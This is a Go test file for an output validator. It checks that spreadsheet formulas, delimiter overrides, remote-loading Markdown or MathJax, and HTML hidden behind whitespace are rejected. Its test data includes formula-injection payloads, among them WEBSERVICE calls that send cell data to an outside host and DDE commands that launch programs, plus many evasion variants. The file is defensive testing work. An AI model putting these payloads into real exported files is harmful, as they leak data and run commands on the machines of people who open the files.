package output_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"hotcell/internal/output"
)

// TestNoCellIsAFormula: a spreadsheet that opens a table must neither tell a third
// party what is in it nor start a program.
func TestNoCellIsAFormula(t *testing.T) {
	for _, cell := range []string{
		`=WEBSERVICE("https://example.org/?d="&A1)`, `"=WEBSERVICE(""https://example.org/?d=""&A1)"`, `=cmd|' /C calc'!A0`, `@SUM(1)`,
		`+1+cmd|' /C calc'!A0`, `-1+cmd|'x'!A0`, `-WEBSERVICE(A1)`, `-SUM (1)`, `+LOG10(1,WEBSERVICE(A1))`, `"+ATAN2(1,WEBSERVICE(A1))"`,
		`+(A1,HYPERLINK(A2))`, `"+""a,""&WEBSERVICE(A1)"`, `+"a,"&WEBSERVICE(A1)`, `+'a,b'!A1`, `+[a,b.xls]S!A1`, `+{1,WEBSERVICE(A1)}`,
		` =1`, "\u00a0=1", `"  =1"`, `'=1`, `""=1`, "\uff1d1", "\uff20SUM(1)", "\uff0bSUM(1)", "\u2212SUM(1)", "a,=1", "a;=1", "a\t=1", "a|=1", "a\n=1", "a\r=1", "a,\n\n=1", "\ufeff=1",
		"+(1\n,SUM(A1))", "-5 (a,SUM(1))", "--SUM(1)", "+ SUM(1)", "+1e5+SUM(1)", "+_xlfn.SUM(1)", "+sheet!A1",
		"-(1,=1", "+[1; =1", "-{1\n@A1", "+(1,\u00a0\uff1d1",
	} {
		for _, name := range []string{"a.csv", "a.tsv"} {
			t.Run(cell, func(t *testing.T) {
				s := newScene(t)
				s.put(t, name, "a\n"+cell+"\n")
				found := s.refuse(t)
				require.Equal(t, []string{output.RuleActiveContent}, rulesOf(found))
				requirePrintable(t, found[0].Message)
			})
		}
	}
}

// TestNoTableSaysWhatSeparatesItsCells: Excel and LibreOffice take any character.
func TestNoTableSaysWhatSeparatesItsCells(t *testing.T) {
	for _, start := range []string{"sep=^", "SEP=^", "\"sep=^\"", "'sep=^'", "\ufeffsep=^", " sep =^", "\n\nsep=^", "sep= ", "sep=", "\uff53\uff45\uff50\uff1d^"} {
		for _, name := range []string{"a.csv", "a.tsv"} {
			s := newScene(t)
			s.put(t, name, start+"\n1^=WEBSERVICE(A1)\n")
			require.Equal(t, []string{output.RuleActiveContent}, rulesOf(s.refuse(t)), start)
		}
	}
	s := newScene(t)
	for index, text := range []string{"sep,a\n1,2\n", "separator=1,2\n", "a,sep=x\n", "step=1\n", "sep"} {
		s.put(t, fmt.Sprintf("a%d.csv", index), text)
	}
	s.accept(t)
}

func TestPlainCellsAreAccepted(t *testing.T) {
	s := newScene(t)
	s.put(t, "a.csv", strings.Join([]string{
		`,x,y`, `C(group, Treatment(reference=1))[T.2],-0.05,1`, `"(0.0, 1.5]",-1e-05,+3`, `"-0.057 (-0.1, 0.0)",a=b,x@y`, `-inf,-,+`,
		`"-1.2",n (%),log(x)`, `a - f(x),p = 0.05,"text, with = in it"`, `-0.5%,-1 234,"-1,5"`, `-ve,--,"a ""=1"" b"`, `"-1 (a, b=1)"`, `"-(1, 2]"`, "\u22120.5 (2),x,y",
	}, "\n"))
	s.put(t, "a.tsv", "a\tb\n-1\tx=1\n")
	s.accept(t)
}

func TestAMarkdownTextLoadsNothing(t *testing.T) {
	for _, text := range []string{
		"![x](https://example.org/?d=1)", "![x][1]\n\n[1]: https://example.org", "a ![](x.png)", "<img src=x>", "a <https://example.org>", "<!-- x -->",
		"</p>", "<?x?>", "<scr\nipt>", "<a>", "<NA >x", "\\![x](//example.org)",
		`$\style{background:url(//x)}{y}$`, `$\frac\Style {x}{y}$`, `$\\bbox[background:url(//x)]{y}$`, `$\mmlToken{mi}[style="x"]{y}$`, `$\require{html}$`, `$\csname style\endcsname$`,
	} {
		t.Run(text, func(t *testing.T) {
			s := newScene(t)
			s.put(t, "a.md", "# x\n\n"+text+"\n")
			require.Contains(t, []string{output.RuleActiveContent, output.RuleMediaType}, rulesOf(s.refuse(t))[0])
		})
	}
	s := newScene(t)
	s.put(t, "a.md", "# x\n\n| a | b |\n|--:|:--|\n| 1 | <NA> |\n| <NaT> | p <0.05 |\n\n1 < 2 <= 3, done! [see](#x) $\\frac{\\hat\\beta}{2} \\displaystyle$ \\* C:\\styles style\n")
	s.accept(t)
}

// TestATextIsOneBehindWhiteSpace: readers that go by the look of a file pass over it.
func TestATextIsOneBehindWhiteSpace(t *testing.T) {
	for _, blank := range []string{strings.Repeat(" ", 600), strings.Repeat("\r\n", 70_000), "\ufeff", "\ufeff \n\ufeff"} {
		for _, name := range []string{"a.txt", "a.csv", "a.log"} {
			s := newScene(t)
			s.put(t, name, blank+"<html><script>x()</script></html>")
			require.Equal(t, []string{output.RuleMediaType}, rulesOf(s.refuse(t)), name)
		}
	}
	s := newScene(t)
	s.put(t, "a.txt", strings.Repeat(" ", 600)+"plain")
	s.put(t, "b.txt", strings.Repeat("\n", 100_000))
	s.put(t, "c.txt", "")
	s.accept(t)
}
